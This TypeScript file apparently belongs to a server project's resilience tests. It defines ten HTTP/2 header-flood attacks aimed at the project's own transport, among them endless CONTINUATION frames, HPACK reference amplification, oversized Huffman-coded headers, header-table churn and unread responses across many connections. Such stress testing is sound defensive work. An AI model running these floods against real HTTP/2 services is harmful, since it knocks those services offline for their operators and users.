import { FrameType } from '../../../src/server/transport/http2/protocol.ts';
import type { Attack } from './attacker.ts';
import { callHeaders, frame, headerFrames, huffmanField, indexedField, literalField, repeated } from './frames.ts';
import { keepConnected } from './keep-connected.ts';
import type { Wire } from './wire.ts';

const someCall = callHeaders('/hostile.Hostile/Call');

/** Requests with the same header block on new streams, without end. */
async function requests(wire: Wire, block: Buffer, batch: number): Promise<void> {
  const next = () => headerFrames(wire.nextStreamId(), block, { endsStream: true });
  while (await wire.send(...Array.from({ length: batch }, next)));
}

function manyRequests(name: string, does: string, block: Buffer, batch = 20): Attack {
  return { name, does, run: (attacker) => keepConnected(attacker, (wire) => requests(wire, block, batch)) };
}

/** Bits of zero are digits of zero, five bits each: 24,000 bytes are 38,400 of them. */
const huffmanZeros = Buffer.alloc(24_000);

/** Index 62: the newest field of the table. */
const newest = Buffer.of(0xbe);

/** A POST over http whose path is given, as a field of the block. */
const postTo = (path: Buffer) =>
  Buffer.concat([Buffer.of(0x83, 0x86), path, literalField('content-type', 'application/grpc')]);

export const headerAttacks: readonly Attack[] = [
  {
    name: 'empty CONTINUATION',
    does: 'sends a header block with endless empty CONTINUATION frames',
    run: (attacker) =>
      keepConnected(attacker, async (wire) => {
        await wire.send(frame(FrameType.headers, 0, wire.nextStreamId(), someCall));
        while (await wire.send(repeated(frame(FrameType.continuation, 0, 1), 4_000)));
      }),
  },
  {
    name: 'CONTINUATION without end',
    does: 'sends a header block with endless full CONTINUATION frames',
    run: (attacker) =>
      keepConnected(attacker, async (wire) => {
        await wire.send(frame(FrameType.headers, 0, wire.nextStreamId(), someCall));
        const fields = repeated(literalField('x', 'y'.repeat(1_000)), 16);
        while (await wire.send(frame(FrameType.continuation, 0, 1, fields)));
      }),
  },
  manyRequests(
    'Huffman-coded headers',
    'sends requests with a header of 38,400 letters, Huffman-coded',
    Buffer.concat([someCall, huffmanField('x', huffmanZeros)]),
  ),
  {
    name: 'references to a large header',
    does: 'sends requests that refer to a header of 4,000 bytes 4,000 times',
    run: (attacker) =>
      keepConnected(attacker, async (wire) => {
        const keep = Buffer.concat([someCall, indexedField('x', 'y'.repeat(3_900))]);
        await wire.send(headerFrames(wire.nextStreamId(), keep, { endsStream: true }));
        await requests(wire, Buffer.concat([someCall, repeated(newest, 4_000)]), 20);
      }),
  },
  {
    name: 'references to a small header',
    does: 'sends requests that refer to a header of one letter 1,800 times',
    run: (attacker) =>
      keepConnected(attacker, async (wire) => {
        const keep = Buffer.concat([someCall, indexedField('x', 'y')]);
        await wire.send(headerFrames(wire.nextStreamId(), keep, { endsStream: true }));
        await requests(wire, Buffer.concat([someCall, repeated(newest, 1_800)]), 20);
      }),
  },
  {
    name: 'unread answers of headers',
    does: 'requests a service with a name of 3,900 characters, on 100 connections that it does not read',
    run: (attacker) =>
      keepConnected(
        attacker,
        async (wire) => {
          wire.stopReading();
          const keep = postTo(indexedField(':path', `/${'y'.repeat(3_900)}/call`));
          await wire.send(headerFrames(wire.nextStreamId(), keep, { endsStream: true }));
          await requests(wire, postTo(newest), 200);
        },
        { count: 100 },
      ),
  },
  manyRequests(
    'changes of the header table',
    'sends header blocks that clear and grow the header table 4,000 times',
    Buffer.concat([repeated(Buffer.of(0x20, 0x3f, 0xe1, 0x1f), 4_000), someCall]),
  ),
  manyRequests(
    'large headers',
    'sends requests with 60 headers of 1,000 bytes',
    Buffer.concat([someCall, ...Array.from({ length: 60 }, (_, index) => literalField(`x${index}`, 'y'.repeat(960)))]),
  ),
  manyRequests(
    'many small headers',
    'sends requests with 1,700 headers',
    Buffer.concat([someCall, ...Array.from({ length: 1_700 }, () => indexedField('x', 'y'))]),
  ),
  manyRequests('calls of nothing', 'calls an unknown method', someCall, 200),
];
